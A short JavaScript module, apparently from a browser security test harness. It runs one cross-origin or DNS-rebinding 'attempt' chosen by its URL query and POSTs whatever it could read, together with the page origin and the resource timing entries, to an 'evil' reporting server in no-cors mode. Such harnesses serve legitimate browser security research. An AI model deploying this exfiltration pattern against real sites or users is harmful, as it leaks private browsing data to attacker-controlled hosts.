// Runs the one attempt that the query of this script orders, and tells the evil server what it could read.
import * as elements from "./elements.js";
import * as pages from "./pages.js";
import * as rebinding from "./rebinding.js";
import * as requests from "./requests.js";

const orders = Object.fromEntries(new URL(import.meta.url).searchParams);
const attempt = { ...elements, ...pages, ...rebinding, ...requests }[orders.do];
let could;
try {
  could = await attempt(orders);
} catch (error) {
  could = { thrown: String(error) };
}
if (could !== undefined) {
  // A simple request, which no page of whatever origin is kept from.
  const told = { could, origin: self.origin, entries: performance.getEntriesByType("resource") };
  const where = `${orders.evil}/report?${new URLSearchParams({ name: orders.name })}`;
  await fetch(where, { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
}
